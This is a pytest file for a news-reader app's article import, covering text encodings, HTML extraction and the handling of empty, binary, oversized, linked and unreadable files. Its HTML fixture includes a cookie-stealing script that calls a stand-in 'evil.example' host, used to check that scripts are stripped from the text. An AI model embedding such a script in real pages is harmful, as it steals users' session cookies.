"""Importing your own files: every format and encoding, and every kind of bad file, each with its outcome."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from reader_app.core.articles.encodings import decode
from reader_app.core.articles.model import ArticleReadError
from reader_app.core.articles.reading import read_article, read_bytes
from tests.conftest import run_cli

STORY = (
    "The harbour authority said on Tuesday that the new ferry terminal would open next spring, "
    "after two years of delays caused by flooding and a shortage of steel."
)
RU_TITLE = "Правительство объявило о реформе"
RU_BODY = ("Правительство объявило в среду о большой реформе школьного образования. "
           "Министр сказал, что новые учебники появятся в сентябре, а учителя получат прибавку к зарплате.")
FR_TITLE = "Le café de Genève rouvre"
FR_BODY = ("Le célèbre café de la place du Molard a rouvert ses portes après des travaux qui ont duré "
           "près d'un an, à la grande joie des habitués du quartier.")
EN_1252_TITLE = "“Smart” meters cost £40 — and €45 abroad"
EN_1252_BODY = ("The regulator’s report, published on Monday, said households had paid “far too much” for the "
                "devices, which were meant to save money… but mostly did not.")

PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Storm closes the coast road | The Daily Planet</title>
<meta name="author" content="Lois Lane"><meta property="og:site_name" content="The Daily Planet">
<meta property="og:title" content="Storm closes the coast road">
<meta property="article:published_time" content="2021-04-14T10:00:00Z">
<link rel="canonical" href="https://dailyplanet.example/2021/04/14/storm">
<script>document.write('SCRIPTED TEXT'); fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(https://evil.example/bg.png) }</style>
</head><body>
<nav><a href="/">Home</a> | <a href="/world">World</a> | <a href="/sport">Sport</a></nav>
<article><h1>Storm closes the coast road</h1>
<p>A powerful storm struck the coast on Wednesday, leaving thousands of homes without power and closing
the main coast road for most of the day.</p>
<img src="https://tracker.example/pixel.gif?id=42" alt="TRACKING PIXEL">
<figure><img src="https://images.example/storm.jpg"></figure>
<p>Officials said repairs would take several days, and urged residents to stay indoors until the winds
dropped below gale force.</p>
<p>The weather service expects calmer conditions by the weekend, though more rain is forecast for the north
of the region.</p>
<script>track('pageview')</script>
<iframe src="https://ads.example/frame"></iframe>
</article><footer>Copyright 2021 The Daily Planet</footer></body></html>
"""


def _article(title: str, body: str) -> str:
    return f"{title}\n\n{body}\n"


def write(folder: Path, name: str, data: bytes | str, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return path


# --- encodings ----------------------------------------------------------------------------------

ENCODED = [
    ("utf-8", "utf-8", FR_TITLE, FR_BODY, b""),
    ("utf-8-sig", "utf-8-sig", FR_TITLE, FR_BODY, b""),
    ("utf-16-le", "utf-16-le", RU_TITLE, RU_BODY, b"\xff\xfe"),
    ("utf-16-be", "utf-16-be", FR_TITLE, FR_BODY, b"\xfe\xff"),
    ("cp1251", "cp1251", RU_TITLE, RU_BODY, b""),
    ("koi8_r", "koi8-r", RU_TITLE, RU_BODY, b""),
    ("cp1252", "cp1252", EN_1252_TITLE, EN_1252_BODY, b""),
    ("latin_1", "iso8859-1", FR_TITLE, FR_BODY, b""),
]


@pytest.mark.parametrize(("codec", "recorded", "title", "body", "bom"), ENCODED, ids=[e[0] for e in ENCODED])
def test_every_encoding_reads_back_exactly_and_is_recorded(tmp_path, codec, recorded, title, body, bom):
    path = write(tmp_path, "a.txt", bom + _article(title, body).encode(codec))
    article = read_article(path, article_id="x")
    assert article.title == title
    assert article.text == body
    assert article.encoding == recorded


@pytest.mark.parametrize(("text", "codec", "recorded"), [
    ("Москва", "cp1251", "cp1251"), ("Москва", "koi8_r", "koi8-r"),
    ("МОСКВА", "cp1251", "cp1251"), ("москва", "koi8_r", "koi8-r"),
    ("Съешь же ещё этих мягких французских булок", "koi8_r", "koi8-r"),
    ("Україна і світ", "cp1251", "cp1251"),
    ("Müller", "latin_1", "iso8859-1"), ("Señor Pérez ganó.", "latin_1", "iso8859-1"),
    ("It’s a “test”.", "cp1252", "cp1252"), ("5 €", "cp1252", "cp1252"),
])
def test_short_legacy_texts_are_not_misread(text, codec, recorded):
    assert decode(text.encode(codec)) == (text, recorded)


def test_import_records_the_encoding_and_show_json_reports_it(tmp_path, data_dir):
    src = tmp_path / "src"
    src.mkdir()
    write(src, "ru.txt", _article(RU_TITLE, RU_BODY), "koi8_r")
    r = run_cli("import", str(src), "--json", data_dir=data_dir)
    assert r.returncode == 0, r.stderr
    aid = json.loads(r.stdout)["added"][0]["id"]
    shown = json.loads(run_cli("show", aid, "--json", data_dir=data_dir).stdout)
    assert shown["encoding"] == "koi8-r"
    assert shown["title"] == RU_TITLE


def test_a_cp1251_article_is_found_by_a_cyrillic_word(tmp_path, library):
    src = tmp_path / "src"
    src.mkdir()
    write(src, "ru.txt", _article(RU_TITLE, RU_BODY), "cp1251")
    report = library.import_paths([src])
    assert len(report.added) == 1 and not report.failed
    hits = library.search("учебники").hits
    assert [h.id for h in hits] == [report.added[0][1]]
    assert library.search("реформе").hits[0].title == RU_TITLE


# --- formats ------------------------------------------------------------------------------------

def test_txt_md_markdown_html_and_htm_all_import(tmp_path, library):
    src = tmp_path / "src"
    src.mkdir()
    write(src, "one.txt", _article("Ferry terminal to open in spring", STORY))
    write(src, "two.md", "# Markdown headline here\n\n" + STORY.replace("spring", "**summer**") + "\n")
    write(src, "three.markdown", "# Another markdown story\n\n" + STORY.replace("Tuesday", "Friday") + "\n")
    write(src, "four.html", PAGE)
    write(src, "five.htm", PAGE.replace("Wednesday", "Thursday"))
    report = library.import_paths([src])
    assert not report.failed
    assert len(report.added) == 5
    titles = {r["title"] for r in library.list_articles()}
    assert {"Ferry terminal to open in spring", "Markdown headline here", "Another markdown story",
            "Storm closes the coast road"} <= titles
    md = library.article(next(i for p, i in report.added if p.endswith("two.md")))
    assert "summer" in md.text and "**" not in md.text


def test_html_with_scripts_and_remote_images_yields_clean_text_and_metadata(tmp_path):
    path = write(tmp_path, "page.html", PAGE)
    article = read_article(path, article_id="x")
    assert article.title == "Storm closes the coast road"
    assert article.byline == "Lois Lane"
    assert article.date == "2021-04-14"
    assert article.outlet == "The Daily Planet"
    assert article.url == "https://dailyplanet.example/2021/04/14/storm"
    assert article.text.startswith("A powerful storm struck the coast on Wednesday")
    assert "gale force" in article.text and "north of the region" in article.text
    for junk in ("SCRIPTED", "document", "fetch", "track(", "evil.example", "tracker.example", "pixel",
                 "TRACKING", "images.example", "ads.example", "<", "Home |", "background"):
        assert junk not in article.text, junk
    assert len(article.paragraphs) == 3


def test_html_in_a_legacy_encoding_follows_its_declared_charset(tmp_path):
    page = PAGE.replace('charset="utf-8"', 'charset="windows-1251"').replace(
        "Storm closes the coast road", RU_TITLE).replace("A powerful storm", "Сильный шторм, " + RU_BODY + " A storm")
    article = read_article(write(tmp_path, "ru.htm", page, "cp1251"), article_id="x")
    assert article.encoding == "cp1251"
    assert article.title == RU_TITLE
    assert "учебники" in article.text


def test_a_page_without_article_text_is_refused_with_a_reason(tmp_path):
    path = write(tmp_path, "empty.html", "<html><head><script>x()</script></head><body><nav>Home</nav></body></html>")
    with pytest.raises(ArticleReadError, match="no article text"):
        read_article(path, article_id="x")


def test_the_same_content_imported_twice_is_recognised(tmp_path, library):
    a = tmp_path / "a"
    b = tmp_path / "b"
    a.mkdir()
    b.mkdir()
    write(a, "story.txt", _article("Ferry terminal to open in spring", STORY))
    write(b, "copy.txt", _article("Ferry terminal to open in spring", STORY))
    first = library.import_paths([a])
    second = library.import_paths([b, a])
    assert len(first.added) == 1
    assert not second.added and len(second.duplicates) == 2
    assert {i for _, i in second.duplicates} == {first.added[0][1]}
    assert sum(1 for r in library.list_articles() if r["title"].startswith("Ferry")) == 1


# --- bad files ----------------------------------------------------------------------------------

def _bad_folder(folder: Path) -> dict[str, str]:
    """A folder of bad files beside one good one; returns file name -> the reason expected for it."""
    folder.mkdir(parents=True, exist_ok=True)
    write(folder, "good.txt", _article("Ferry terminal to open in spring", STORY))
    write(folder, "empty.txt", b"")
    write(folder, "binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    with open(folder / "huge.txt", "wb") as fh:  # sparse: 21 MB on paper, nothing on disk
        fh.truncate(21 * 1024 * 1024)
        fh.seek(0)
        fh.write(b"A title\n\n" + STORY.encode())
    write(folder, "bad-bom.txt", b"\xef\xbb\xbfHello \xff\xfe\xfd world")
    write(folder, "undecodable.md", bytes([0x81, 0x8d, 0x8f, 0x90, 0x9d, 0xa4, 0xa6, 0xac, 0xae]) * 40)
    write(folder, "garbage.html", b"<html><body><script>x()</script></body></html>")
    os.mkfifo(folder / "pipe.txt")
    (folder / "device.txt").symlink_to("/dev/null")
    (folder / "zero.md").symlink_to("/dev/zero")
    (folder / "dangling.txt").symlink_to(folder / "gone.txt")
    locked = write(folder, "locked.txt", _article("A locked story", STORY.replace("ferry", "bridge")))
    locked.chmod(0)
    return {
        "empty.txt": "empty file",
        "binary.txt": "binary file",
        "huge.txt": "too large",
        "bad-bom.txt": "cannot decode",
        "undecodable.md": "cannot decode",
        "garbage.html": "no article text",
        "pipe.txt": "not a regular file (a FIFO)",
        "device.txt": "a link to outside the folder (not followed)",  # links out are never followed (#13)
        "zero.md": "a link to outside the folder (not followed)",
        "dangling.txt": "broken link",
        "locked.txt": "permission denied",
    }


def _as_nobody_env(home: Path) -> dict[str, str]:
    return {"HOME": str(home), "XDG_DATA_HOME": str(home), "XDG_CONFIG_HOME": str(home),
            "XDG_CACHE_HOME": str(home), "XDG_STATE_HOME": str(home)}


@pytest.mark.timeout(120)
def test_every_bad_file_gets_a_one_line_reason_and_the_rest_imports():
    """Run as an unprivileged user (root reads any file), so an unreadable file is really unreadable."""
    if os.geteuid() == 0 and not shutil.which("setpriv"):
        pytest.skip("needs setpriv to drop root")  # pragma: no cover
    top = Path(tempfile.mkdtemp(prefix="reader-import-"))
    try:
        top.chmod(0o777)
        expected = _bad_folder(top / "src")
        for p in (top / "src", top / "src" / "good.txt"):
            p.chmod(p.stat().st_mode | stat.S_IROTH | stat.S_IXOTH)
        (top / "src" / "huge.txt").chmod(0o644)
        data = top / "data"
        prefix = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"] if os.geteuid() == 0 else []
        assert _run_as(prefix, data, top, "index").returncode == 0
        r = _run_as(prefix, data, top, "import", str(top / "src"), str(Path("/dev/null")), str(top / "nothing.txt"))
        lines = r.stderr.strip().splitlines()
        reasons = {Path(line.split(": ", 1)[0]).name: line.split(": ", 1)[1] for line in lines}
        expected.update({"null": "not a regular file (a device)", "nothing.txt": "file not found"})
        assert set(reasons) == set(expected), r.stderr
        for name, reason in expected.items():
            assert reason in reasons[name], (name, reasons[name])
        assert r.returncode == 3  # partly imported
        assert "Imported 1," in r.stdout
        listed = json.loads(_run_as(prefix, data, top, "list", "--json").stdout)
        assert "Ferry terminal to open in spring" in {row["title"] for row in listed}
    finally:
        shutil.rmtree(top, ignore_errors=True)


def _run_as(prefix: list[str], data: Path, home: Path, *args: str):
    import subprocess
    import sys

    from tests.conftest import ROOT

    env = dict(os.environ, PYTHONPATH=str(ROOT), **_as_nobody_env(home))
    return subprocess.run([*prefix, sys.executable, "-m", "reader_app", "--data-dir", str(data), *args],
                          capture_output=True, text=True, env=env, cwd=str(home), timeout=100)


def test_nothing_imported_is_exit_status_1_only_when_files_could_not_be_read(tmp_path, data_dir):
    """A trial: a folder of empty files exited 1 (an error) though its report said "failed 0" and the same files
    beside an imported one exit 3. Skipped files (empty, links out of the folder) alone exit 3, as there;
    files that could not be read, with nothing imported, exit 1."""
    src = tmp_path / "src"
    src.mkdir()
    write(src, "empty.txt", b"")
    write(src, "blank.md", b"")
    (src / "out.txt").symlink_to(tmp_path / "elsewhere.txt")
    write(tmp_path, "elsewhere.txt", b"Far away\n\nA text outside the folder, never imported from it.\n")
    run_cli("index", data_dir=data_dir)
    r = run_cli("import", str(src), data_dir=data_dir)
    assert (r.returncode, r.stdout) == (3, "Imported 0, updated 0, already in the library 0, failed 0, 2 empty "
                                           "files skipped, 1 link out of the folder skipped.\n"), r.stderr
    assert r.stderr.splitlines()[:2] == [f"{src / 'blank.md'}: empty file", f"{src / 'empty.txt'}: empty file"]
    write(src, "story.txt", b"Ferry terminal opens\n\nThe new ferry terminal opens in the spring, the council "
                            b"said on Monday, after two years of building work on the old harbour front.\n")
    assert run_cli("import", str(src), data_dir=data_dir).returncode == 3  # beside an imported file: the same
    (src / "story.txt").unlink()
    write(src, "picture.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    r = run_cli("import", str(src), data_dir=data_dir)
    assert r.returncode == 1 and "binary file" in r.stderr, r.stderr  # one could not be read, none imported
    r = run_cli("import", str(tmp_path / "missing"), data_dir=data_dir)
    assert r.returncode == 1


@pytest.mark.timeout(30)
def test_a_fifo_never_blocks_even_when_named_like_an_article(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")
    with pytest.raises(ArticleReadError, match="FIFO"):
        read_bytes(tmp_path / "pipe.txt")


def test_a_file_that_grows_past_the_cap_while_read_is_refused(tmp_path):
    path = write(tmp_path, "a.txt", b"x" * 2000)
    with pytest.raises(ArticleReadError, match="too large"):
        read_bytes(path, max_bytes=1000)


def test_a_missing_python_package_is_named_in_words(tmp_path):
    """An install without lxml_html_clean (an old pip) says what is missing, not an exception class name."""
    page = write(tmp_path, "page.html", PAGE)
    script = ("import sys; sys.modules['lxml_html_clean'] = None  # as if it were not installed\n"
              "from reader_app.cli import main; sys.exit(main(sys.argv[1:]))")
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[3]))
    env.pop("READER_APP_DATA_DIR", None)
    done = subprocess.run([sys.executable, "-c", script, "--data-dir", str(tmp_path / "data"), "import", str(page)],
                          capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 1, done.stderr
    line = next(x for x in done.stderr.splitlines() if x.startswith(str(page)))
    assert "the Python package lxml_html_clean is missing; reinstall reader-app" in line
    assert "Error" not in line


@pytest.mark.parametrize("body", [FR_BODY, STORY], ids=["accented", "ascii"])
def test_utf8_with_two_stray_bytes_is_imported_with_them_replaced_and_said(tmp_path, data_dir, body):
    """As editors do: the bad bytes become U+FFFD; the import report says how many (text and --json)."""
    src = tmp_path / "src"
    src.mkdir()
    data = _article(FR_TITLE, body).encode("utf-8")
    cut = data.index(b"a ", len(data) // 2)
    write(src, "stray.txt", data[:cut] + b"\xff\xfe" + data[cut:])
    r = run_cli("import", str(src), "--json", data_dir=data_dir)
    assert r.returncode == 0, r.stderr
    report = json.loads(r.stdout)
    assert len(report["added"]) == 1 and report["failed"] == []
    assert report["warnings"] == [{"path": str(src / "stray.txt"),
                                   "warning": "2 bytes could not be decoded as UTF-8 and were replaced"}]
    shown = json.loads(run_cli("show", report["added"][0]["id"], "--json", data_dir=data_dir).stdout)
    assert shown["encoding"] == "utf-8" and "\ufffd\ufffd" in shown["text"] and shown["title"] == FR_TITLE
    write(src, "stray2.txt", data[:cut] + b"\xff" + data[cut:])
    r = run_cli("import", str(src / "stray2.txt"), data_dir=data_dir)
    assert r.returncode == 0
    assert f"{src / 'stray2.txt'}: warning: 1 byte could not be decoded as UTF-8 and was replaced" in r.stderr


@pytest.mark.timeout(120)
def test_a_path_that_cannot_be_examined_fails_alone():
    """A file inside a folder the user may not enter (mode 644): `stat` itself is refused. That path fails
    with "permission denied"; the others still import (it once aborted all: "the folder is read-only")."""
    if os.geteuid() == 0 and not shutil.which("setpriv"):
        pytest.skip("needs setpriv to drop root")  # pragma: no cover
    top = Path(tempfile.mkdtemp(prefix="reader-import-"))
    try:
        top.chmod(0o777)
        closed = top / "closed"
        closed.mkdir()
        (closed / "x.txt").write_text("Hidden\n\nA story nobody may read.\n")
        closed.chmod(0o644)
        good = top / "good.txt"
        good.write_text("Ferry terminal to open in spring\n\nThe new ferry terminal opens in April.\n")
        good.chmod(0o644)
        data = top / "data"
        prefix = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"] if os.geteuid() == 0 else []
        r = _run_as(prefix, data, top, "import", str(closed / "x.txt"), str(good))
        assert r.stderr.strip().splitlines()[-1] == f"{closed / 'x.txt'}: permission denied", r.stderr
        assert r.returncode == 3 and "Imported 1," in r.stdout, (r.stdout, r.stderr)
    finally:
        closed.chmod(0o755)
        shutil.rmtree(top, ignore_errors=True)


def test_a_copy_of_a_rejected_file_is_no_duplicate_of_a_phantom(tmp_path, data_dir):
    """Two byte-identical binary files: both fail with the binary file's reason; none is reported as "already
    in the library" under an id that does not exist, and `--outlet` writes no details for such an id."""
    src = tmp_path / "src"
    src.mkdir()
    blob = bytes(range(256)) * 40
    write(src, "a.txt", blob)
    write(src, "b.txt", blob)
    write(src, "good.txt", b"Harbour reopens\n\nThe harbour in Lindmark reopened on Monday.\n")
    r = run_cli("import", str(src), "--json", "--outlet", "Lindmark Post", data_dir=data_dir)
    report = json.loads(r.stdout)
    assert report["duplicates"] == [], report
    failed = {Path(f["path"]).name: f["reason"] for f in report["failed"]}
    assert set(failed) == {"a.txt", "b.txt"} and failed["a.txt"] == failed["b.txt"], failed
    assert len(report["added"]) == 1
    details = (data_dir / "details.jsonl").read_text() if (data_dir / "details.jsonl").exists() else ""
    listed = {a["id"] for a in json.loads(run_cli("list", "--json", data_dir=data_dir).stdout)}
    written = {row[0] for row in map(json.loads, details.splitlines()[1:]) if isinstance(row, list)}
    assert written <= listed, (written, listed)


def test_the_size_limit_is_named_as_the_readme_names_it(tmp_path):
    """The README says 20 MB; the message counts in the same units (it said "the limit is 21 MB")."""
    path = tmp_path / "huge.txt"
    with open(path, "wb") as fh:
        fh.truncate(21 * 2**20)
    with pytest.raises(ArticleReadError) as caught:
        read_bytes(path)
    assert str(caught.value) == "too large (21.0 MB; the limit is 20 MB)"


def test_a_folders_readme_and_licence_are_not_articles(tmp_path, library):
    """The BBC corpus's README.md became an article ("BBC News corpus …") when the folder was imported; a file
    named outright is still the person's choice."""
    folder = tmp_path / "clips"
    (folder / "sub").mkdir(parents=True)
    story = "Talks on the new border road went on through the night in the capital, officials said.\n"
    (folder / "README.md").write_text("# My clippings\n\nNotes on where these came from and how I saved them.\n",
                                      encoding="utf-8")
    (folder / "sub" / "license.txt").write_text("Permission is hereby granted, free of charge, to any person.\n",
                                                encoding="utf-8")
    (folder / "CHANGELOG.md").write_text("Added three clippings from the spring, and fixed two titles.\n",
                                         encoding="utf-8")
    (folder / "road.txt").write_text(story, encoding="utf-8")
    (folder / "readme-the-road-story.txt").write_text(story.replace("night", "day"), encoding="utf-8")
    report = library.import_paths([folder])
    assert sorted(Path(p).name for p, _ in report.added) == ["readme-the-road-story.txt", "road.txt"]
    assert report.failed == []
    named = library.import_paths([folder / "README.md"])
    assert [Path(p).name for p, _ in named.added] == ["README.md"]


def test_an_empty_path_imports_nothing_and_says_why(tmp_path, data_dir):
    """`reader-app import ""` (an unset "$DIR") imported the current folder, recursively and silently."""
    (tmp_path / "here").mkdir()
    (tmp_path / "here" / "a.txt").write_text("A clipping that must not be imported from the current folder.\n")
    r = run_cli("import", "", data_dir=data_dir, cwd=tmp_path / "here")
    assert r.returncode == 2 and "empty path" in r.stderr, (r.returncode, r.stdout, r.stderr)
    listed = json.loads(run_cli("list", "--json", data_dir=data_dir).stdout)
    assert not any(a["path"].endswith("a.txt") for a in listed)


def test_a_file_just_over_the_limit_never_reads_as_at_the_limit(tmp_path):
    path = tmp_path / "big.txt"
    with open(path, "wb") as fh:
        fh.truncate(21_000_000)  # 20.03 MB of 2**20 bytes: it said "too large (20.0 MB; the limit is 20 MB)"
    with pytest.raises(ArticleReadError) as caught:
        read_bytes(path)
    assert str(caught.value) == "too large (20.1 MB; the limit is 20 MB)"
